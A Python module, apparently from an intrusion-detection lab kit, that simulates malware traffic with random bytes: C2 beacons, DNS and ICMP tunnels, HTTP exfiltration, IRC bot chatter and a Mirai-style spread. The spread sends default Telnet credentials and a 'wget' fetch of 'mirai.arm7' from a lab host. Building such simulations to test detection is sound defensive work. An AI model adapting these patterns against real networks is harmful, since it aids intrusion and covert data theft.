"""Malware that calls home, carries data out, or hides a channel in another protocol."""

from __future__ import annotations

import base64
import http.client
import json
import os
import socket
import struct
import time
from contextlib import suppress

from idskit.lab.play.play_names import TXT, A, look_up, query
from idskit.lab.play.script import (
    RANDOM,
    TIMEOUT_S,
    TLS,
    ask,
    connect,
    connect_tls,
    datagrams,
    line,
    rest,
    script,
)


def _until_next(pause: float, jitter: float = 0.3) -> None:
    """Wait for the next call home."""
    time.sleep(3 * pause * RANDOM.uniform(1 - jitter, 1 + jitter))


@script
def beacon(server: str, count: int, pause: float, port: str = "4444") -> None:
    """Ask a controller for work again and again, with jitter, over plain TCP."""
    for number in range(count):
        with suppress(OSError), connect(server, int(port)) as connection:
            line(connection, f"id=7f3a&n={number}")
        _until_next(pause)


@script
def tls_beacon(server: str, count: int, pause: float) -> None:
    """Ask a controller for work over TLS."""
    for number in range(count):
        with suppress(OSError), connect_tls(server, 443, "cdn-update.example") as connection:
            line(connection, f"GET /u?{number} HTTP/1.0\r\n")
        _until_next(pause)


@script
def http_beacon(server: str, count: int, pause: float, jitter: str = "0.5") -> None:
    """Ask a controller for work by HTTP; now and then return what a command printed."""
    for number in range(count):
        with suppress(OSError, http.client.HTTPException):
            connection = http.client.HTTPConnection(server, 8081, timeout=TIMEOUT_S)
            cookie = base64.b64encode(os.urandom(60)).decode()
            connection.request(
                "GET", f"/api/c?n={RANDOM.randint(1, 4)}", headers={"Cookie": cookie}
            )
            connection.getresponse().read()
            if number % 5 == 4:
                connection.request("POST", "/api/r", os.urandom(RANDOM.randint(100, 4000)))
                connection.getresponse().read()
            connection.close()
        _until_next(pause, float(jitter))


@script
def dns_beacon(server: str, count: int, pause: float) -> None:
    """Ask a controller for work by TXT records of a few names."""
    for number in range(count):
        name = f"{number:04x}{os.urandom(4).hex()}.c.example.org"
        look_up(server, name, TXT if number % 4 == 0 else A)
        _until_next(pause)


@script
def icmp_beacon(server: str, count: int, pause: float) -> None:
    """Ask a controller for work by echo requests that carry data."""
    carry_by_icmp(server, max(count // 2, 6), 4 * pause)


@script
def generate_domains(server: str, count: int, pause: float) -> None:
    """Look up names that were generated until one is there."""
    for _ in range(4 * count):
        letters = "".join(RANDOM.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(14))
        look_up(server, f"{letters}.typo.example", A)
        rest(pause / 3)


@script
def shell(server: str, count: int, pause: float) -> None:
    """Open a shell backwards: short commands, typed with pauses."""
    with connect(server, 4444) as connection:
        for _ in range(count):
            line(connection, RANDOM.choice(("uid=0(root)", "total 48", "Linux lab 6.1")))
            rest(2 * pause)


@script
def shell_backwards(server: str, count: int, _pause: float, tls: str = "") -> None:
    """Call a controller that types commands, and return what they print."""
    opened = connect_tls(server, 443, "update.example") if tls else connect(server, 4445)
    with suppress(OSError), opened as connection:
        for _ in range(max(count // 3, 4)):
            if not connection.recv(4096):
                return
            connection.sendall(os.urandom(RANDOM.choice((30, 200, 1500, 6000))).hex().encode())


@script
def exfiltrate(server: str, count: int, pause: float) -> None:
    """Carry files out over one connection."""
    with connect(server, 4444) as connection:
        for _ in range(count):
            connection.sendall(os.urandom(20_000).hex().encode() + b"\n")
            connection.recv(100)
            rest(pause / 10)


@script
def exfiltrate_http(server: str, count: int, pause: float, port: str = "8081") -> None:
    """Carry files out by HTTP in pieces of one size, a connection each."""
    size = RANDOM.choice((30_000, 100_000, 400_000))
    for number in range(max(count // 2, 5)):
        if port == "8443":
            connection: http.client.HTTPConnection = http.client.HTTPSConnection(
                server, int(port), timeout=TIMEOUT_S, context=TLS
            )
        else:
            connection = http.client.HTTPConnection(server, int(port), timeout=TIMEOUT_S)
        body = base64.b64encode(os.urandom(size))
        connection.request("POST", f"/api/p{number}", body)
        connection.getresponse().read()
        connection.close()
        rest(pause)


@script
def dns_tunnel(server: str, count: int, pause: float) -> None:
    """Carry data out in the names of DNS queries, over one port."""
    with datagrams() as out:
        for number in range(4 * count):
            name = f"{os.urandom(25).hex()}.t.example.org"
            ask(out, query(name, TXT, number=number), server, 53)
            rest(pause / 4)


@script
def dns_leak(server: str, count: int, pause: float) -> None:
    """Carry a file out in the names of DNS queries, each from a new port, slowly."""
    for number in range(count):
        name = f"{number}.{os.urandom(16).hex()}.{os.urandom(16).hex()}.x.example.org"
        look_up(server, name, A)
        rest(pause)


@script
def dnscat(server: str, count: int, pause: float) -> None:
    """Keep a session in DNS: queries of three kinds, data both ways, polling when idle."""
    session = os.urandom(2).hex()
    with datagrams(0.5) as out:
        for number in range(5 * count):
            busy = number % 20 < 8
            data = os.urandom(RANDOM.randint(40, 90) if busy else 9).hex()
            text = session + data
            labels = ".".join(text[i : i + 60] for i in range(0, len(text), 60))
            kind = RANDOM.choice((TXT, 5, 15))
            ask(out, query(f"{labels}.d.example.org", kind), server, 53)
            rest(pause / 10 if busy else pause)


@script
def carry_by_icmp(server: str, count: int, pause: float, size: str = "900") -> None:
    """Carry data out in echo requests; the kernel there sends it back."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as out:
        out.settimeout(0.2)
        for number in range(2 * count):
            data = os.urandom(RANDOM.randint(int(size) // 2, int(size)) & ~1)
            head = struct.pack(">BBHHH", 8, 0, 0, 0x7F3A, number)
            total = sum(struct.unpack(f">{(len(head) + len(data)) // 2}H", head + data))
            while total >> 16:
                total = (total & 0xFFFF) + (total >> 16)
            packet = head[:2] + struct.pack(">H", ~total & 0xFFFF) + head[4:] + data
            with suppress(OSError):
                out.sendto(packet, (server, 0))
                out.recv(2048)
            rest(pause)


@script
def chat_as_bot(server: str, count: int, pause: float) -> None:
    """Join a channel of IRC and wait for orders."""
    with connect(server, 4444) as connection:
        for text in (f"NICK b{RANDOM.getrandbits(20):x}", "USER x 0 * :x", "JOIN #c77"):
            line(connection, text)
        for number in range(count):
            line(connection, "PONG :irc" if number % 4 else "PRIVMSG #c77 :[scan] 23 done")
            rest(4 * pause)


@script
def mine_coins(server: str, count: int, pause: float) -> None:
    """Mine for a pool: small JSON lines, a share every few seconds."""
    with connect(server, 4444) as connection:
        for number in range(count):
            method = (
                "mining.submit"
                if number > 2
                else ("mining.subscribe", "mining.authorize", "x")[number]
            )
            text = json.dumps({"id": number, "method": method, "params": [os.urandom(32).hex()]})
            line(connection, text)
            rest(3 * pause)


@script
def spread(server: str, count: int, pause: float) -> None:
    """Behave as Mirai: knock at Telnet on many addresses, guess where one answers, load a file."""
    for _ in range(3 * count):
        host = f"10.77.0.{RANDOM.randint(2, 60)}"
        with suppress(OSError), socket.socket() as knock:
            knock.settimeout(0.15)
            knock.connect((host, RANDOM.choice((23, 23, 23, 2323))))
    for name in ("root", "admin", "support", "operator"):
        with suppress(OSError), connect(server, 23) as connection:
            connection.recv(100)
            line(connection, name)
            line(connection, "correct horse" if name == "operator" else "xc3511")
            if name == "operator":
                for text in (
                    "enable",
                    "sh",
                    "/bin/busybox ECCHI",
                    "wget http://10.77.0.10/mirai.arm7",
                ):
                    line(connection, text)
                    rest(pause)
    load(server, 2, pause)
    beacon(server, max(count // 4, 3), pause)


@script
def load(server: str, count: int, pause: float) -> None:
    """Load a program for several processors over HTTP, as a dropper does."""
    for number in range(count):
        for name in ("arm7", "mips", "x86"):
            connection = http.client.HTTPConnection(server, 8081, timeout=TIMEOUT_S)
            path = f"/blob/{name}{number}?n={RANDOM.randint(40_000, 120_000)}"
            connection.request("GET", path, headers={"User-Agent": "Wget"})
            connection.getresponse().read()
            connection.close()
        rest(pause)
